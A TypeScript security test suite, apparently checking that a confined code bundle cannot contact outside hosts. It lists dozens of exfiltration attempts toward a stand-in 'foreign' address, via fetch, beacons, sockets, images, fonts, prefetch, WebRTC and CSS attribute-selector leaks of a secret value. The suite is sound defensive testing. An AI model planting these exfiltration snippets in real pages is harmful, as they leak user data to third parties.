import * as assert from 'uvu/assert';
import { type Attacks, attackSuite, beside, hostile, runAttacks, stops, token } from './attack-rig.ts';
import { rootOf } from './bundle-folder.ts';

const style = (css: string) =>
  `document.head.append(make('style', { textContent: \`${css}\`.replaceAll('FOREIGN', foreign) })); await wait(200)`;
const link = (rel: string, path: string, more = '') =>
  `await load(make('link', { rel: '${rel}', href: foreign + '${path}', ${more} }))`;

const rows: Record<string, Attacks> = {
  'fetch, XHR, beacon, sockets, event streams, module imports: `connect-src` and `script-src`': {
    fetch: { code: `await fetch(foreign + 'fetch', { mode: 'no-cors' })`, heard: '/fetch', refused: true },
    keepalive: {
      code: `await fetch(foreign + 'keepalive', { mode: 'no-cors', keepalive: true })`,
      heard: '/keepalive',
      refused: true,
    },
    fetchLater: {
      code: `fetchLater(foreign + 'fetch-later', { activateAfter: 0 }); await wait(200)`,
      heard: '/fetch-later',
    },
    xhr: {
      code: `const x = new XMLHttpRequest(); x.open('GET', foreign + 'xhr'); x.send(); await wait(200)`,
      heard: '/xhr',
    },
    beacon: { code: `navigator.sendBeacon(foreign + 'beacon', 'x'); await wait(100)`, heard: '/beacon' },
    eventSource: { code: `new EventSource(foreign + 'events'); await wait(200)`, heard: '/events' },
    webSocket: { code: `new WebSocket(foreign.replace('http', 'ws') + 'socket'); await wait(200)`, heard: '/socket' },
    webTransport: {
      code: `const transport = new WebTransport('https://' + quic + '/'); transport.ready.catch(() => 0); await wait(500); `,
      heard: 'quic',
    },
    module: { code: `await import(foreign + 'module.js')`, heard: '/module.js', refused: true },
    jsonModule: {
      code: `await import(foreign + 'data.json', { with: { type: 'json' } })`,
      heard: '/data.json',
      refused: true,
    },
    cssModule: {
      code: `await import(foreign + 'module.css', { with: { type: 'css' } })`,
      heard: '/module.css',
      refused: true,
    },
    script: { code: `await load(make('script', { src: foreign + 'script.js' }))`, heard: '/script.js' },
    moduleScript: {
      code: `await load(make('script', { type: 'module', src: foreign + 'module-script.js' }))`,
      heard: '/module-script.js',
    },
    ping: {
      code: `const a = make('a', { href: foreign + 'pinged', target: '_blank', ping: foreign + 'ping' }); document.body.append(a); a.click(); await wait(100)`,
      heard: '/ping',
    },
  },
  'images, styles, fonts, media, objects, prefetches, `<base>`: the fetch directives': {
    image: { code: `await load(make('img', { src: foreign + 'image.png' }))`, heard: '/image.png' },
    srcset: { code: `await load(make('img', { srcset: foreign + 'srcset.png 1x' }))`, heard: '/srcset.png' },
    imageInput: {
      code: `await load(make('input', { type: 'image', src: foreign + 'input.png' }))`,
      heard: '/input.png',
    },
    background: { code: style('body { background: url(FOREIGNbackground.png) }'), heard: '/background.png' },
    imageSet: { code: style('html { background: image-set("FOREIGNset.png" 1x) }'), heard: '/set.png' },
    import: { code: style('@import url(FOREIGNimport.css);'), heard: '/import.css' },
    stylesheet: { code: link('stylesheet', 'sheet.css'), heard: '/sheet.css' },
    font: {
      code: `await new FontFace('x', 'url(' + foreign + 'font.woff2)').load().catch(() => 0)`,
      heard: '/font.woff2',
    },
    object: { code: `await load(make('object', { data: foreign + 'object' }))`, heard: '/object' },
    embed: { code: `await load(make('embed', { src: foreign + 'embed' }))`, heard: '/embed' },
    video: {
      code: `await load(make('video', { src: foreign + 'video.mp4', poster: foreign + 'poster.png' }))`,
      heard: '/video.mp4',
    },
    audio: { code: `await load(make('audio', { src: foreign + 'audio.mp3' }))`, heard: '/audio.mp3' },
    preload: { code: link('preload', 'preload.png', `as: 'image'`), heard: '/preload.png' },
    modulePreload: { code: link('modulepreload', 'preload.js'), heard: '/preload.js' },
    prefetch: { code: link('prefetch', 'prefetch'), heard: '/prefetch' },
    svgImage: {
      code: `document.body.insertAdjacentHTML('beforeend', '<svg><image href="' + foreign + 'svg.png"/></svg>'); await wait(200)`,
      heard: '/svg.png',
    },
    svgUse: {
      code: `document.body.insertAdjacentHTML('beforeend', '<svg><use href="' + foreign + 'use.svg#x"/></svg>'); await wait(100)`,
      heard: '/use.svg',
    },
    base: {
      code: `document.head.append(make('base', { href: foreign })); await load(make('img', { src: 'based.png' }))`,
      heard: '/based.png',
    },
    metaPolicy: {
      code: `document.head.append(make('meta', { httpEquiv: 'content-security-policy', content: 'img-src *; connect-src *' })); await load(make('img', { src: foreign + 'meta.png' }))`,
      heard: '/meta.png',
    },
    speculation: {
      code: `document.head.append(make('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ urls: [foreign + 'speculated'] }] }) })); await wait(100)`,
      heard: '/speculated',
      page: true,
    },
  },
  'CSS exfiltration: no foreign address in any style': {
    attributes: {
      code: `document.body.append(make('input', { id: 'secret' })); document.querySelector('#secret').setAttribute('value', 'secret');
        ${style('#secret[value^="s"] { background: url(FOREIGNstarts-with-s) }')}`,
      heard: '/starts-with-s',
    },
    has: {
      code: `document.body.append(make('p', { className: 'about-money' }));
        ${style('html:has(.about-money) { background: url(FOREIGNabout-money) }')}`,
      heard: '/about-money',
    },
    inlineStyle: {
      code: `document.body.insertAdjacentHTML('beforeend', '<p style="background:url(' + foreign + 'inline-style)">x</p>'); await wait(200)`,
      heard: '/inline-style',
    },
  },
  'WebRTC STUN and TURN: taken away before the first line of the bundle': {
    peer: { code: `return new RTCPeerConnection()`, refused: true },
    stun: {
      code: `const c = new RTCPeerConnection({ iceServers: [{ urls: stun }] }); c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer()); await wait(600)`,
      heard: 'stun',
      refused: true,
    },
    elsewhere: {
      code: `const f = make('iframe', {}); document.body.append(f); return new f.contentWindow.RTCPeerConnection()`,
      refused: true,
    },
  },
};
const names = new Map(Object.keys(rows).map((row, at) => [row, `hostile-${at}`]));

const test = attackSuite('A bundle reaches nobody but the service', (bundles, { confined }) => {
  for (const [row, name] of names) bundles.add(name, hostile(confined, rows[row] ?? {}));
  bundles.add(
    'image-reader',
    hostile(confined, { image: { code: `await load(make('img', { src: endpoint + '/api/sessions' }))` } }),
  );
});

for (const [row, name] of names) test(row, (rig) => stops(rig, name, rows[row] ?? {}));

test('an image of the service is asked for without the credential, so that it tells nothing and changes nothing', (rig) =>
  beside(rig, ['image-reader'], async (page) => {
    const asked = page.waitForRequest(
      (request) => /\/api\/sessions$/.test(request.url()) && request.resourceType() === 'image',
    );
    const request = await asked;
    const headers = await request.allHeaders();
    assert.is(headers.authorization, undefined);
    assert.is(headers.cookie, undefined);
    assert.not.match(request.url(), new RegExp(token));
    await rootOf(page, 'image-reader').filter({ hasText: 'tried' }).waitFor();
  }));

runAttacks(test);
